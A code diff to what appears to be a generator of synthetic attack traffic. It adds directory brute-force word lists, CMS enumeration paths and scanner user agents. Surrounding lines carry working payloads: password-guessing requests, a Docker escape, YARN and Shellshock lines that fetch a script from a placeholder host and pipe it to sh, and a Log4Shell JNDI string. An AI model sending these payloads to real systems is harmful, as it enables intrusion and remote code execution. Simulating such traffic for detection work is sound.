@@ -98,6 +98,12 @@ GET http://«domain»/«azenv.php|proxychecker/check.php|»
 PROPFIND /
 DEBUG /Default.aspx
 GET /«word»/«admin|backup|old|test|dev|.git|private|temp|config|db|logs»«|/|.bak|.old|.zip|~|.swp|.tar.gz|.orig»
+# T1595.003 word list
+GET /«admin|administrator|backup|backups|old|test|dev|tmp|temp|config|conf|db|data|logs|log|private|secret|internal|install|setup|upload|uploads|files|include|includes|inc|lib|src|cgi-bin|bin|mail|webmail|cache|media|images|stats|api|console|portal|manager|dashboard|login|user|users|account|accounts|panel|cpanel|phpinfo|info|server-info|status|debug|trace|export|import|dump|archive|download|downloads|docs|readme|license|changelog|hidden|staging|beta|demo|shop|blog|forum|wiki|git|svn|jenkins|grafana|kibana»«|/|.php|.html|.txt|.bak|.old|.zip|.tar.gz|.asp|.aspx|.jsp|.xml|.json|.sql|.log|~»
+HEAD /«_|.|»«admin|backup|cache|common|conf|config|css|data|database|db|dev|files|images|img|inc|include|install|js|layouts|lib|media|mem_bin|mm|notes|old|overlay|pages|private|res|resources|scriptlibrary|scripts|source|src|stats|styles|swf|temp|template|tmp|vti_bin|www|archive|assets|awstats»
+GET /«word»«|/|.php|.bak»
+GET /«wp-content/plugins/«word»-«word»/readme.txt|wp-content/themes/«word»/style.css|wp-json/wp/v2/users|?author=«num:1:20»|wp-content/debug.log|xmlrpc.php|wp-config.php.«bak|old|save|swp|txt»|components/com_«word»/|modules/mod_«word»/|administrator/manifests/files/joomla.xml|CHANGELOG.txt|sites/default/settings.php»
+GET /«nmaplowercheck«epoch»|NmapUpperCheck«epoch»|nice%20ports%2C/Tri%6Eity.txt%2ebak|HNAP1|sdk|evox/about|CVS/Entries|crossdomain.xml.old»
 # T1110 login guessing
 POST /«wp-login.php|administrator/index.php|login.action|user/login|j_spring_security_check|admin/login.php|manager/html|api/login|cgi-bin/luci|phpmyadmin/index.php» <<< «log|username|user|j_username|login|pma_username»=«admin|root|test|administrator|user|guest|«first»»&«pwd|password|passwd|j_password|pma_password»=«admin|123456|password|admin123|qwerty|root|12345678|letmein|P@ssw0rd|toor|«word»123|changeme|«site»2024»&«wp-submit=Log+In|submit=Login|redirect_to=»
 POST /xmlrpc.php <<< <?xml version="1.0"?><methodCall><methodName>«wp.getUsersBlogs|system.multicall|wp.getUsers|metaWeblog.newPost»</methodName><params><param><value>«admin|root|«first»»</value></param><param><value>«admin123|123456|«word»«num:1:999»|P@ssw0rd»</value></param></params></methodCall>
@@ -117,6 +123,12 @@ POST /containers/create <<< {"Image":"alpine","Cmd":["/bin/sh","-c","chroot /mnt
 POST /ws/v1/cluster/apps <<< {"application-id":"application_«epoch»_0001","application-name":"«letters:6»","am-container-spec":{"commands":{"command":"wget -q -O - http://«peer»/«letters:2».sh | sh"}},"application-type":"YARN"}
 """)
 
+#: Agents of tools that try the words of a list, most of which pretend to be browsers.
+LIST_AGENTS = ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "gobuster/3.«num:0:6»", "Fuzz Faster U Fool v2.«num:0:1».0-dev", "feroxbuster/2.«num:3:10».0",
+               "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+               "WPScan v3.8.«num:1:25» (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.00 (Nikto/2.1.«num:5:6») (Evasions:None) (Test:«num:1:9999»)", "Wfuzz/3.1.0",
+               "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/«num:30:60».0.«num:1000:3000».0 Safari/537.36", "python-requests/2.«num:20:31».0",
+               "Mozilla/5.0 (X11; Linux x86_64; rv:«num:60:115».0) Gecko/20100101 Firefox/«num:60:115».0", "-", "curl/7.«num:50:88».0")
 AGENTS = ("sqlmap/1.«num:4:8».«num:1:12»#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.«num:5:6») (Evasions:None) (Test:«num:1:9999»)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
           "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "gobuster/3.«num:0:6»", "Fuzz Faster U Fool v2.«num:0:1».0", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "WPScan v3.8.«num:1:25» (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Hello, World", "Morfeus Fucking Scanner", "ZmEu", "feroxbuster/2.«num:3:10».0",
           "Arachni/v1.«num:3:6»", "w3af.org", "Acunetix-Product", "${jndi:ldap://«peer»:1389/«token:5»}", "() { :; }; /bin/bash -c 'curl http://«peer»/«letters:3»|sh'", "jndi:${lower:l}dap", "python-requests/2.«num:20:31».0", "Go-http-client/1.1", "curl/7.«num:50:88».0", "-", "libwww-perl/6.«num:5:60»", "Wget/1.«num:12:21»", "Hydra", "commix/v3.«num:1:9»-stable", "Wfuzz/3.1.0", "Havij")
